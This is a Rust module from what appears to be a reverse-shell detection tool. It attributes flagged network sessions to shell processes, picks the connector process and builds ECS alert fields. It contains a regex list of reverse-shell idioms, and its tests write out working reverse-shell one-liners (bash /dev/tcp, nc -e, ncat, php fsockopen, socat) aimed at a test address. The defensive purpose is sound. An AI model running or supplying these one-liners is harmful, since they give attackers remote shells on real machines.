//! Attribution: from a flagged session to the process on the shell side, with the facts
//! the verdict needs (shell or interpreter, exposed-service ancestry, stdio on the socket,
//! a reverse-shell command line, known automation) and the ECS fields for the alert.

use super::cache::{CommandLog, Holding, InventoryCache};
use crate::config::{NameList, ProcessLists};
use crate::context::resolve::Context;
use crate::detect::Detection;
use crate::inventory::{ExecRecord, InventoryRecord, ProcessInfo};
use crate::report::{Attribution, Attributor};
use crate::time::Span;
use crate::verdict::ProcessFacts;
use regex::RegexSet;
use serde_json::{json, Value};
use std::sync::{Arc, Mutex, OnceLock};

/// How far an agent's sighting may lie outside the session's span and still count: the
/// agent refreshes every second or so, and clocks differ a little.
const SLACK: Span = Span::from_secs(5);

/// Command-line idioms of reverse shells (Falco's and Sigma's lists, anchors.md).
const SUSPICIOUS: &[&str] = &[
    r"/dev/tcp/",
    r"/dev/udp/",
    r"\bnc(\.traditional|\.openbsd)?\s(.*\s)?-[a-z]*[ec]\b",
    r"\bncat\s(.*\s)?(-e|--exec|-c|--sh-exec)\b",
    r"\b(ba|da|z|k)?sh\s+-i\b",
    r"import\s+(socket|pty)",
    r"pty\.spawn",
    r"\bperl\b.*\bSocket\b",
    r"\bphp\b.*fsockopen",
    r"\bruby\b.*-rsocket",
    r"\bmkfifo\b",
    r"\bsocat\b.*\bexec:",
    r"\bopenssl\s+s_client\b",
];

fn suspicious() -> &'static RegexSet {
    static S: OnceLock<RegexSet> = OnceLock::new();
    S.get_or_init(|| RegexSet::new(SUSPICIOUS).expect("static regexes compile"))
}

/// Programs that carry a socket to a shell rather than being the shell: a candidate for
/// `shellsight.process.connector` even when it is the one on the socket.
const CONNECTORS: &[&str] = &["nc", "ncat", "netcat", "socat", "openssl", "telnet"];

fn connectors() -> &'static NameList {
    static C: OnceLock<NameList> = OnceLock::new();
    C.get_or_init(|| NameList::new(CONNECTORS))
}

/// Attributes detections from an inventory cache that agents (or a recorded file) fill.
pub struct InventoryAttributor {
    cache: Arc<Mutex<InventoryCache>>,
    context: Arc<Context>,
}

impl InventoryAttributor {
    pub fn new(cache: Arc<Mutex<InventoryCache>>, context: Arc<Context>) -> Self {
        InventoryAttributor { cache, context }
    }
}

impl Attributor for InventoryAttributor {
    fn attribute(&mut self, d: &Detection) -> Option<Attribution> {
        let shell = if d.shell_side == crate::evidence::Dir::Orig { d.source } else { d.destination };
        let remote = if d.shell_side == crate::evidence::Dir::Orig { d.destination } else { d.source };
        let cache = self.cache.lock().ok()?;
        let found = cache.lookup(
            (shell.ip, shell.port),
            (remote.ip, remote.port),
            d.session_start - SLACK,
            d.decided_at + SLACK,
        );
        let lists = self.context.policy.process_lists();
        let choice = choose(&found, lists)?;
        let rec = &choice.holding.record;
        let commands = cache.commands(&rec.host.boot_id, rec.socket.inode);
        Some(describe(&choice, commands, lists))
    }
}

/// How the chosen process is wired to the flagged socket.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Wiring {
    /// Its stdin or stdout is the socket.
    Stdio,
    /// Its stdio is a pty whose master a holder of the socket has open.
    Pty,
    /// It holds the socket on another fd.
    Holder,
}

impl Wiring {
    fn as_str(self) -> &'static str {
        match self {
            Wiring::Stdio => "stdio-socket",
            Wiring::Pty => "stdio-pty-of-socket",
            Wiring::Holder => "holds-socket",
        }
    }
}

/// The process that carried the socket to the shell, and how.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Connector {
    pub pid: i32,
    pub name: String,
    pub args: Vec<String>,
    /// `pty-master` (it drives the shell's pty), `ancestor` (it holds the socket and
    /// started the shell), `exec` (the same pid ran it before it exec'd the shell).
    pub role: &'static str,
}

/// The process an alert names among the holders of its socket.
#[derive(Debug, Clone)]
pub struct Choice<'a> {
    pub holding: &'a Holding,
    pub wiring: Wiring,
    pub connector: Option<Connector>,
}

fn wiring(h: &Holding) -> Wiring {
    let inode = h.record.socket.inode;
    match h.record.process.as_deref() {
        _ if h.record.socket.pty.is_some() => Wiring::Pty,
        Some(p) if p.std_sockets.stdin_inode == Some(inode) || p.std_sockets.stdout_inode == Some(inode) => {
            Wiring::Stdio
        }
        _ => Wiring::Holder,
    }
}

/// Picks the process the alert names, in this order:
/// 1. a shell whose stdio is the socket, or a pty one of the socket's holders drives;
/// 2. an interpreter whose stdio is the socket (that drives no pty);
/// 3. any process whose stdio is the socket; 4. any holder.
///
/// Within a class the outermost wins, the one none of whose ancestors is in the class:
/// the shell that received the socket, not the commands it runs (which inherit its
/// stdio), whichever of them exec'd last. Ties go to the earliest started.
pub fn choose<'a>(found: &[&'a Holding], lists: &ProcessLists) -> Option<Choice<'a>> {
    let held: Vec<&Holding> = found.iter().copied().filter(|h| h.record.process.is_some()).collect();
    let drivers: Vec<i32> =
        held.iter().filter_map(|h| h.record.socket.pty.as_ref().map(|l| l.master_pid)).collect();
    let name = |h: &Holding| h.record.process.as_ref().map(|p| p.name.clone()).unwrap_or_default();
    let pid = |h: &Holding| h.record.process.as_ref().map_or(0, |p| p.pid);
    let classes: [&dyn Fn(&Holding) -> bool; 4] = [
        &|h| lists.is_shell(&name(h)) && wiring(h) != Wiring::Holder && !drivers.contains(&pid(h)),
        &|h| {
            lists.is_interpreter(&name(h))
                && !connectors().matches(&name(h))
                && wiring(h) == Wiring::Stdio
                && !drivers.contains(&pid(h))
        },
        &|h| wiring(h) == Wiring::Stdio,
        &|_| true,
    ];
    for class in classes {
        let members: Vec<&Holding> = held.iter().copied().filter(|h| class(h)).collect();
        let pids: Vec<i32> = members.iter().map(|h| pid(h)).collect();
        let outermost = members
            .iter()
            .copied()
            .filter(|h| {
                let p = h.record.process.as_deref().expect("filtered");
                !p.ancestors.iter().any(|a| a.pid != p.pid && pids.contains(&a.pid))
            })
            .min_by_key(|h| {
                let p = h.record.process.as_deref().expect("filtered");
                (p.start.clone().unwrap_or_default(), h.first_seen.as_nanos(), p.pid)
            });
        if let Some(h) = outermost {
            let connector = connector(h, &held, lists);
            return Some(Choice { holding: h, wiring: wiring(h), connector });
        }
    }
    None
}

/// The process that carried the socket to `chosen`: the pty's driver, else the nearest
/// ancestor holding the socket that is not a shell, else the connector or interpreter
/// the same pid ran before it exec'd the shell (`nc -e /bin/sh`).
fn connector(chosen: &Holding, held: &[&Holding], lists: &ProcessLists) -> Option<Connector> {
    let p = chosen.record.process.as_deref()?;
    let of = |h: &Holding, role| {
        let q = h.record.process.as_deref()?;
        (!lists.is_shell(&q.name)).then(|| Connector {
            pid: q.pid,
            name: q.name.clone(),
            args: q.args.clone(),
            role,
        })
    };
    if let Some(link) = &chosen.record.socket.pty {
        let driver =
            held.iter().find(|h| h.record.process.as_ref().is_some_and(|q| q.pid == link.master_pid));
        if let Some(c) = driver.and_then(|h| of(h, "pty-master")) {
            return Some(c);
        }
    }
    for a in &p.ancestors {
        let holder = held.iter().find(|h| h.record.process.as_ref().is_some_and(|q| q.pid == a.pid));
        if let Some(c) = holder.and_then(|h| of(h, "ancestor")) {
            return Some(c);
        }
    }
    let before = p.exec_from.as_ref()?;
    let carries = connectors().matches(&before.name) || lists.is_interpreter(&before.name);
    (carries && !lists.is_shell(&before.name)).then(|| Connector {
        pid: p.pid,
        name: before.name.clone(),
        args: before.args.clone(),
        role: "exec",
    })
}

/// Builds the verdict's process facts and the alert's ECS fields from the chosen process
/// and the commands run over its socket.
/// Directories world-writable or in memory, where dropped implants run from.
const DROP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"];

/// The process runs a binary that was deleted after it started, or one from a directory
/// implants are dropped into: its path, with " (deleted)" for the former.
fn suspicious_image(p: &ProcessInfo) -> Option<String> {
    let exe = p.executable.as_deref()?;
    if p.exe_deleted {
        return Some(format!("{exe} (deleted)"));
    }
    DROP_DIRS.iter().any(|d| exe.starts_with(d)).then(|| exe.to_string())
}

pub fn describe(choice: &Choice<'_>, commands: Option<&CommandLog>, lists: &ProcessLists) -> Attribution {
    let rec: &InventoryRecord = &choice.holding.record;
    let p: &ProcessInfo = rec.process.as_deref().expect("chosen among processes");
    let inode = rec.socket.inode;
    let shellish = lists.is_shell(&p.name) || lists.is_interpreter(&p.name);
    let exposed_ancestor = p
        .ancestors
        .iter()
        .find(|a| lists.is_exposed_process(&a.name, Some(&a.args.join(" "))))
        .map(|a| a.name.clone());
    let connector_line = choice.connector.as_ref().map(|c| c.args.join(" "));
    let command_lines = std::iter::once(p.command_line.clone())
        .chain(p.ancestors.iter().take(3).map(|a| a.args.join(" ")))
        .chain(connector_line);
    let suspicious_command_line = command_lines.into_iter().any(|c| suspicious().is_match(&c));
    let trusted_automation = std::iter::once(p.name.as_str())
        .chain(p.ancestors.iter().map(|a| a.name.as_str()))
        .find(|n| lists.is_trusted_automation(n))
        .map(str::to_string);
    let facts = ProcessFacts {
        shell_or_interpreter: shellish.then(|| p.name.clone()),
        exposed_ancestor,
        stdio_on_socket: choice.wiring == Wiring::Stdio,
        stdio_pty_of_socket: choice.wiring == Wiring::Pty,
        pty_driver: match (choice.wiring, &choice.connector) {
            (Wiring::Pty, Some(c)) => Some(c.name.clone()),
            _ => None,
        },
        suspicious_command_line,
        trusted_automation,
        suspicious_image: suspicious_image(p),
    };

    let mut process = json!({
        "pid": p.pid,
        "name": p.name,
        "command_line": p.command_line,
        "args": p.args,
        "args_count": p.args.len(),
    });
    let obj = process.as_object_mut().expect("object");
    if let Some(exe) = &p.executable {
        obj.insert("executable".into(), json!(exe));
    }
    if let Some(cwd) = &p.working_directory {
        obj.insert("working_directory".into(), json!(cwd));
    }
    if let Some(start) = &p.start {
        obj.insert("start".into(), json!(start));
    }
    if let Some(tty) = p.tty.as_ref().or(p.std_ttys.stdin.as_ref()) {
        obj.insert("tty".into(), tty_json(tty));
    }
    if let Some(parent) = &p.parent {
        obj.insert(
            "parent".into(),
            json!({ "pid": parent.pid, "name": parent.name, "command_line": parent.command_line }),
        );
    }
    if let Some(l) = &p.group_leader {
        obj.insert("group_leader".into(), json!({ "pid": l.pid, "name": l.name }));
    }
    if let Some(l) = &p.session_leader {
        obj.insert("session_leader".into(), json!({ "pid": l.pid, "name": l.name }));
    }
    let ancestry: Vec<Value> =
        p.ancestors.iter().map(|a| json!({ "pid": a.pid, "name": a.name, "args": a.args })).collect();
    let mut ours = json!({
        "ancestry": ancestry,
        "std_sockets": p.std_sockets,
        "exe_deleted": p.exe_deleted,
        "socket": { "inode": inode, "netns": rec.network.netns, "state": rec.socket.state },
        "wiring": choice.wiring.as_str(),
    });
    let o = ours.as_object_mut().expect("object");
    if let Some(link) = &rec.socket.pty {
        o.insert("pty".into(), json!({ "name": link.name, "master_pid": link.master_pid }));
    }
    if let Some(c) = &choice.connector {
        o.insert(
            "connector".into(),
            json!({ "pid": c.pid, "name": c.name, "args": c.args, "command_line": c.args.join(" "), "role": c.role }),
        );
    }
    let commands_seen = commands.map_or(0, CommandLog::total);
    if let Some(log) = commands {
        o.insert("commands".into(), Value::Array(log.first.iter().map(|r| command_json(r)).collect()));
        if log.more > 0 {
            o.insert("commands_omitted".into(), json!(log.more));
        }
    }
    let mut ecs = json!({
        "process": process,
        "user": { "id": p.user.id.to_string(), "name": p.user.name },
        "host": { "name": rec.host.name, "boot": { "id": rec.host.boot_id } },
        "shellsight": { "process": ours },
    });
    let root = ecs.as_object_mut().expect("object");
    if let Some(c) = &rec.container {
        root.insert(
            "container".into(),
            json!({ "id": c.id, "runtime": c.runtime, "name": c.name, "image": { "name": c.image.as_ref().map(|i| &i.name) } }),
        );
    }
    if let Some(o) = &rec.orchestrator {
        root.insert(
            "orchestrator".into(),
            json!({
                "type": "kubernetes",
                "namespace": o.namespace,
                "resource": { "type": "pod", "name": o.resource.name, "id": o.resource.uid },
                "service_account": o.service_account,
            }),
        );
    }

    let chain: Vec<&str> = p.ancestors.iter().map(|a| a.name.as_str()).collect();
    let via = choice.connector.as_ref().map(|c| format!(" via {}", c.name)).unwrap_or_default();
    let summary = format!(
        "{} pid {} ({}){via} user {} on {} — parents: {}{}",
        p.name,
        p.pid,
        truncate(&p.command_line, 60),
        p.user.name.as_deref().unwrap_or("?"),
        rec.host.name,
        chain.join(" < "),
        if commands_seen > 0 { format!(" — {commands_seen} commands") } else { String::new() }
    );
    Attribution {
        facts,
        ecs,
        summary,
        process_name: Some(p.name.clone()),
        parent_name: p.parent.as_ref().map(|x| x.name.clone()),
        command_line: Some(p.command_line.clone()),
        commands_seen,
    }
}

/// ECS `process.tty`: the name, and the character device when it is a pty.
fn tty_json(name: &str) -> Value {
    match name.strip_prefix("pts/").and_then(|n| n.parse::<u32>().ok()) {
        Some(n) => json!({ "name": name, "char_device": { "major": 136 + n / 256, "minor": n % 256 } }),
        None => json!({ "name": name }),
    }
}

fn command_json(r: &ExecRecord) -> Value {
    let p = &r.process;
    json!({
        "@timestamp": r.timestamp,
        "pid": p.pid,
        "ppid": p.ppid,
        "name": p.name,
        "args": p.args,
        "command_line": p.args.join(" "),
        "user": { "id": p.user.id.to_string(), "name": p.user.name },
    })
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(n).collect::<String>())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inventory::*;
    use crate::time::Timestamp;

    const INODE: u64 = 4242;

    /// A process as the agent reports it: `ancestors` are (pid, name) up to init.
    fn proc_(pid: i32, name: &str, args: &[&str], ancestors: &[(i32, &str)]) -> ProcessInfo {
        ProcessInfo {
            pid,
            name: name.into(),
            executable: None,
            exe_deleted: false,
            args: args.iter().map(|a| a.to_string()).collect(),
            command_line: args.join(" "),
            working_directory: None,
            start: Some(format!("2026-01-01T00:00:{:02}.000Z", pid % 60)),
            tty: None,
            user: UserInfo { id: 0, name: Some("root".into()) },
            std_sockets: StdSockets::default(),
            std_ttys: StdTtys::default(),
            pty_masters: Vec::new(),
            group_leader: None,
            session_leader: None,
            exec_from: None,
            parent: ancestors.first().map(|(p, n)| ParentInfo {
                pid: *p,
                name: n.to_string(),
                command_line: n.to_string(),
            }),
            ancestors: ancestors
                .iter()
                .map(|(p, n)| AncestorInfo { pid: *p, name: n.to_string(), args: vec![n.to_string()] })
                .collect(),
        }
    }

    fn on_stdio(mut p: ProcessInfo) -> ProcessInfo {
        p.std_sockets = StdSockets {
            stdin: true,
            stdout: true,
            stderr: true,
            stdin_inode: Some(INODE),
            stdout_inode: Some(INODE),
            stderr_inode: Some(INODE),
        };
        p
    }

    /// One holding; `seen` orders the agent's sightings (a later one exec'd later).
    fn holding(p: ProcessInfo, pty: Option<i32>, seen: i64) -> Holding {
        let record = InventoryRecord {
            timestamp: String::new(),
            observed_ns: seen,
            event: EventInfo { action: Action::Opened },
            host: HostInfo { name: "h".into(), boot_id: "b".into() },
            network: NetworkInfo { transport: Transport::Tcp, ip_version: IpVersion::Ipv4, netns: 1 },
            source: Endpoint { ip: "10.0.0.1".parse().unwrap(), port: 40000 },
            destination: Endpoint { ip: "198.19.0.66".parse().unwrap(), port: 4444 },
            socket: SocketInfo {
                inode: INODE,
                state: "ESTABLISHED".into(),
                uid: 0,
                fds: Vec::new(),
                pty: pty.map(|m| PtyLink { name: "pts/3".into(), master_pid: m }),
            },
            process: Some(Arc::new(p)),
            container: None,
            orchestrator: None,
        };
        let at = Timestamp::from_nanos(seen);
        Holding { record: Arc::new(record), first_seen: at, last_seen: at, closed_at: None }
    }

    fn chosen(hs: &[Holding]) -> (i32, Wiring, Option<(String, &'static str)>) {
        let refs: Vec<&Holding> = hs.iter().collect();
        let c = choose(&refs, &ProcessLists::default()).expect("a choice");
        let pid = c.holding.record.process.as_ref().unwrap().pid;
        (pid, c.wiring, c.connector.map(|k| (k.name, k.role)))
    }

    #[test]
    fn the_outermost_shell_wins_over_a_bashrc_helper_that_was_seen_last() {
        let chain = [(20, "bash"), (10, "python3"), (1, "systemd")];
        let shell = on_stdio(proc_(30, "bash", &["bash", "-i"], &chain));
        let helper = on_stdio(proc_(
            31,
            "bash",
            &["bash", "/root/.pyenv/libexec/pyenv-rehash"],
            &[(30, "bash"), (20, "bash"), (10, "python3"), (1, "systemd")],
        ));
        let id = on_stdio(proc_(32, "id", &["id"], &[(30, "bash"), (20, "bash"), (1, "systemd")]));
        let hs = [holding(helper, None, 5), holding(shell, None, 1), holding(id, None, 9)];
        assert_eq!(chosen(&hs), (30, Wiring::Stdio, None));
    }

    #[test]
    fn a_shell_on_a_pty_beats_the_interpreter_driving_it() {
        let py = on_stdio(proc_(40, "python3", &["python3", "-c", "pty.spawn"], &[(1, "systemd")]));
        let sh = proc_(41, "sh", &["/bin/sh"], &[(40, "python3"), (1, "systemd")]);
        let hs = [holding(py, None, 1), holding(sh, Some(40), 2)];
        assert_eq!(chosen(&hs), (41, Wiring::Pty, Some(("python3".into(), "pty-master"))));
    }

    #[test]
    fn a_pty_opened_inside_a_reverse_shell_does_not_displace_it() {
        // bash -i on the socket runs `script` (the upgrade to a pty): bash stays.
        let bash = on_stdio(proc_(50, "bash", &["bash", "-i"], &[(1, "systemd")]));
        let script = on_stdio(proc_(51, "script", &["script", "/dev/null"], &[(50, "bash"), (1, "systemd")]));
        let inner = proc_(52, "bash", &["bash"], &[(51, "script"), (50, "bash"), (1, "systemd")]);
        let hs = [holding(bash, None, 1), holding(script, None, 2), holding(inner, Some(51), 3)];
        assert_eq!(chosen(&hs), (50, Wiring::Stdio, None));
    }

    #[test]
    fn connectors_by_ancestry_and_by_exec() {
        // python holds the socket on fd 3 and starts sh with it as stdio.
        let py = proc_(60, "python3", &["python3", "-c", "subprocess.call"], &[(1, "systemd")]);
        let sh = on_stdio(proc_(61, "sh", &["/bin/sh", "-i"], &[(60, "python3"), (1, "systemd")]));
        assert_eq!(
            chosen(&[holding(py, None, 1), holding(sh, None, 2)]),
            (61, Wiring::Stdio, Some(("python3".into(), "ancestor")))
        );
        // nc -e execs the shell in place: the same pid ran nc before.
        let mut sh = on_stdio(proc_(70, "sh", &["sh"], &[(69, "bash"), (1, "systemd")]));
        sh.exec_from =
            Some(PreviousImage { name: "nc.traditional".into(), args: vec!["nc.traditional".into()] });
        assert_eq!(
            chosen(&[holding(sh, None, 1)]),
            (70, Wiring::Stdio, Some(("nc.traditional".into(), "exec")))
        );
        // bash -c that exec'd bash -i is no connector.
        let mut bash = on_stdio(proc_(80, "bash", &["bash", "-i"], &[(1, "systemd")]));
        bash.exec_from = Some(PreviousImage { name: "bash".into(), args: vec!["bash".into(), "-c".into()] });
        assert_eq!(chosen(&[holding(bash, None, 1)]), (80, Wiring::Stdio, None));
    }

    #[test]
    fn commands_are_bounded_and_in_time_order() {
        let mut cache = InventoryCache::default();
        let exec = |pid: i32, at: i64| {
            Arc::new(ExecRecord {
                timestamp: String::new(),
                observed_ns: at,
                event: ExecEventInfo { action: ExecAction::Exec, source: ExecSource::ProcConnector },
                host: HostInfo { name: "h".into(), boot_id: "b".into() },
                process: ExecProcess {
                    pid,
                    ppid: 1,
                    name: "id".into(),
                    args: vec!["id".into()],
                    executable: None,
                    user: UserInfo { id: 0, name: None },
                },
                stdio_sockets: vec![INODE],
                stdio_pty: None,
            })
        };
        cache.ingest_exec(exec(2, 20));
        cache.ingest_exec(exec(1, 10));
        cache.ingest_exec(exec(1, 10)); // the same exec twice counts once
        for i in 0..100 {
            cache.ingest_exec(exec(100 + i, 100 + i as i64));
        }
        let log = cache.commands("b", INODE).expect("commands");
        assert_eq!(log.first.len(), crate::join::cache::MAX_COMMANDS);
        assert_eq!(log.total(), 102);
        assert_eq!((log.first[0].process.pid, log.first[1].process.pid), (1, 2));
        assert!(cache.commands("other-boot", INODE).is_none());
    }

    #[test]
    fn cmd_under_the_iis_worker_is_high_as_bash_under_php_fpm_is() {
        use crate::verdict::{decide, ContextFacts, Facts, NetworkFindings, Reason, Tier};
        // Little network evidence: the process context alone must carry it.
        let net = NetworkFindings::bare(5, Reason::ReverseInteractive);
        let lists = ProcessLists::default();
        let tier = |name: &str, args: &[&str], parent: &str| {
            // Sysmon-style: the process holds the connection, its stdio unknown.
            let p = proc_(90, name, args, &[(80, parent), (4, "services.exe")]);
            let hs = [holding(p, None, 1)];
            let refs: Vec<&Holding> = hs.iter().collect();
            let a = describe(&choose(&refs, &lists).expect("a choice"), None, &lists);
            let ctx = ContextFacts::default();
            let v = decide(&Facts {
                network: &net,
                context: &ctx,
                process: Some(&a.facts),
                history: None,
                injection: None,
                inside: None,
                series: None,
            });
            (v.tier, crate::verdict::reason::strings(&v.reasons))
        };
        let (t, reasons) =
            tier("cmd.exe", &["cmd.exe", "/c", "whoami"], r"c:\windows\system32\inetsrv\w3wp.exe");
        assert_eq!(t, Some(Tier::High), "{reasons:?}");
        assert!(reasons.iter().any(|r| r.starts_with("exposed-service-parent:") && r.ends_with("w3wp.exe")));
        for (shell, parent) in [
            ("powershell.exe", "sqlservr.exe"),
            ("MSHTA.EXE", "MSExchangeTransport.exe"),
            ("bash", "php-fpm8.2"),
        ] {
            assert_eq!(tier(shell, &[shell], parent).0, Some(Tier::High), "{shell} under {parent}");
        }
        // The same cmd.exe under Explorer (a person at the desktop) is not raised by it.
        let (t, reasons) = tier("cmd.exe", &["cmd.exe"], "explorer.exe");
        assert!(t < Some(Tier::High), "{reasons:?}");
        assert!(!reasons.iter().any(|r| r.starts_with("exposed-service-parent:")));
    }

    #[test]
    fn reverse_shell_command_lines_are_recognised() {
        let s = suspicious();
        for c in [
            "bash -c bash -i >& /dev/tcp/198.19.0.66/4444 0>&1",
            "nc.traditional -e /bin/sh 198.19.0.66 4444",
            "ncat --ssl -e /bin/bash 198.19.0.66 8443",
            "python3 -c import socket,subprocess,os;s=socket.socket()",
            "php -r $sock=fsockopen(\"198.19.0.66\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            "socat exec:bash -li,pty,stderr tcp:198.19.0.66:4445",
        ] {
            assert!(s.is_match(c), "{c}");
        }
        for c in [
            "/usr/sbin/nginx -g daemon off;",
            "bash /usr/local/bin/backup.sh",
            "ssh -tt admin@10.0.0.1",
            "ncat -l 8080",
        ] {
            assert!(!s.is_match(c), "{c}");
        }
    }
}
